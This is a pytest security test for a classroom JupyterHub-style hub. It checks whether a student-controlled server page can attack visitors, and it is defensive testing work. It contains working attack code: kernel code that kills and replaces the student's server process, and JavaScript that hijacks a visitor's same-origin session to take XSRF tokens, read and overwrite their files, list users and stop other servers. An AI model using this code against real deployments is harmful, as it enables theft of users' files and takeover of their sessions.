"""A student's server serves a page of the student's own: what can it do to those who open it?"""

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.classroom.class_accounts import STUDENTS, TEACHER, processes
from tests.classroom.hub import Hub, Notebook, Student, new_hub, wait_for

pytestmark = pytest.mark.accounts

ATTACKER, VICTIM, BYSTANDER = STUDENTS[:3]
SECRET = "what nobody else may read"

# Runs in the attacker's kernel: from here on, another program has the place of the server. It needs
# no extension, so no setting of the server's can keep it away.
REPLACE = """
import os, signal, subprocess, sys, urllib.parse
port = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
with open("replacement.py", "w") as file:
    file.write({code!r})
subprocess.Popen([sys.executable, "replacement.py", str(port)], start_new_session=True)
print("ready")
"""
SERVER = '''
import http.server, os, signal, subprocess, sys, time
time.sleep(1)
for process in os.listdir("/proc"):
    if process.isdecimal():
        try:
            if "jupyterhub.singleuser" in open(f"/proc/{process}/cmdline").read():
                os.kill(int(process), signal.SIGKILL)
        except OSError:
            pass
PAGE = """%s"""
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())
while True:
    try:
        http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
    except OSError:
        time.sleep(0.1)
'''
# One click opens a window, with which a page of the same origin may do what it likes.
PAGE = """<!doctype html><button>The solutions</button><script>
const HUB = "{hub}", MINE = "{mine}", THEIRS = "{theirs}", OTHER = "{other}", NAME = "{name}"
const results = {{}}
async function attempt(what, act) {{
  try {{ results[what] = await act() }} catch (error) {{ results[what] = error.name }}
}}
document.querySelector("button").onclick = async () => {{
  const opened = window.open("about:blank")
  async function load(url) {{
    opened.location = url
    await new Promise((done) => setTimeout(done, 2500))
    return opened.document  // raises where the origin is another one
  }}
  async function ask(url, xsrf, method) {{
    const options = {{method, credentials: "include", headers: {{"X-XSRFToken": xsrf}}}}
    const answer = await fetch(url, options)
    return [answer.status, (await answer.text()).slice(0, 300)]
  }}
  const cookie = (page) => (page.cookie.match(/_xsrf=([^;]+)/) || [])[1]
  let xsrf = ""
  await attempt("hub", async () => {{
    await load(HUB + "/hub/home")
    xsrf = opened.jhdata.xsrf_token
    return opened.jhdata.user
  }})
  await attempt("token", () => ask(HUB + "/hub/api/users/" + NAME + "/tokens", xsrf, "POST"))
  await attempt("users", () => ask(HUB + "/hub/api/users", xsrf, "GET"))
  await attempt("enter", () => ask(OTHER + "/api/contents/secret.txt", xsrf, "GET"))
  await attempt("read", async () => {{
    const page = await load(THEIRS + "/api/contents/secret.txt")
    return page.body.innerText
  }})
  await attempt("write", async () => {{
    const page = await load(THEIRS + "/lab")
    const options = {{method: "PUT", headers: {{"X-XSRFToken": cookie(page)}},
                      body: JSON.stringify({{type: "file", format: "text", content: "taken"}})}}
    return (await opened.fetch(THEIRS + "/api/contents/taken.txt", options)).status
  }})
  await attempt("stop", () => ask(HUB + "/hub/api/users/{bystander}/server", xsrf, "DELETE"))
  opened.close()
  document.title = "done"
}}
</script>"""


def _resolve_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Names below localhost lead to this machine, as they do in a browser."""
    asked = socket.getaddrinfo

    def getaddrinfo(host: Any, *arguments: Any, **options: Any) -> Any:
        here = isinstance(host, str) and host.endswith(".localhost")
        return asked("127.0.0.1" if here else host, *arguments, **options)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)


@pytest.fixture(scope="module", params=["one address", "subdomains"])
def attacked(
    request: pytest.FixtureRequest, passwords: dict[str, str]
) -> Iterator[dict[str, Student]]:
    """A hub in which those attacked have a server with a secret in it."""
    with new_hub() as hub, pytest.MonkeyPatch.context() as patch:
        if request.param == "subdomains":
            _resolve_here(patch)
            hub.settings["MASKLENS_CLASS_DOMAIN"] = f"http://class.localhost:{hub.port}"
        hub.start()
        names = (ATTACKER, VICTIM, BYSTANDER, TEACHER)
        students = {name: Student(hub, name, passwords[name]) for name in names}
        for student in students.values():
            student.login().raise_for_status()
            secret = Path("/home", student.name, "secret.txt")
            secret.write_text(SECRET)
            secret.chmod(0o644)
            student.spawn()
        yield students


def _replace_server(attacker: Student, code: str) -> None:
    """Puts a program of the student's where the student's own server is."""
    for process in processes(attacker.name):
        process.kill()
    attacker.ask_hub(f"users/{attacker.name}/server", "DELETE")
    wait_for("the server has stopped", lambda: not processes(attacker.name))
    attacker.spawn()
    kernel = attacker.ask("kernels", "POST", {"name": "python3-plain"})["id"]
    notebook = Notebook(attacker, "", {}, kernel)
    with notebook.connected():
        (output,) = notebook.execute(REPLACE.format(code=code))
    assert output.get("text") == "ready\n", output


def _visit(browser: Browser, attacked: dict[str, Student], name: str) -> dict[str, Any]:
    """Logs in, visits one's own server, and clicks on the page of the attacker."""
    attacker, visitor = attacked[ATTACKER], attacked[name]
    hub: Hub = attacker.hub
    page = PAGE.format(
        hub=hub.url,
        mine=attacker.server,
        theirs=visitor.server,
        other=attacked[BYSTANDER].server,
        name=name,
        bystander=BYSTANDER,
    )
    _replace_server(attacker, SERVER % page)
    context: BrowserContext = browser.new_context()
    try:
        tab = context.new_page()
        tab.goto(f"{hub.url}/hub/login")
        tab.fill("#username_input", name)
        tab.fill("#password_input", visitor.password)
        tab.click("#login_submit")
        tab.goto(f"{visitor.server}/lab")
        assert visitor.session.get(f"{visitor.server}/api/contents/secret.txt").ok

        def replaced() -> bool:
            tab.goto(f"{attacker.server}/solutions")
            return tab.locator("button", has_text="The solutions").count() == 1

        wait_for("the attacker's page is there", replaced)
        tab.click("button")
        tab.wait_for_function("document.title == 'done'")
        return dict(tab.evaluate("results"))
    finally:
        context.close()


@pytest.mark.parametrize("name", [VICTIM, TEACHER])
def test_what_a_page_of_a_student_does_to_a_visitor(
    browser: Browser, attacked: dict[str, Student], name: str
) -> None:
    found = _visit(browser, attacked, name)
    bystander = attacked[BYSTANDER]
    if "MASKLENS_CLASS_DOMAIN" in bystander.hub.settings:
        # The browser lets the page look at nothing of another address, and ask it for nothing.
        assert set(found) == {"hub", "token", "users", "enter", "read", "write", "stop"}
        assert set(found.values()) == {"SecurityError", "TypeError"}
        assert bystander.server_processes()
        return
    # Even so, nobody's token is made, and no server entered but the visitor's own,
    assert found["hub"] == name
    assert found["token"][0] == found["enter"][0] == 403
    # whose files are read and changed.
    assert SECRET in found["read"] and found["write"] == 201
    # Through a teacher, the page sees who is there, and stops servers.
    assert (found["users"][0], found["stop"][0]) == ((200, 204) if name == TEACHER else (403, 404))
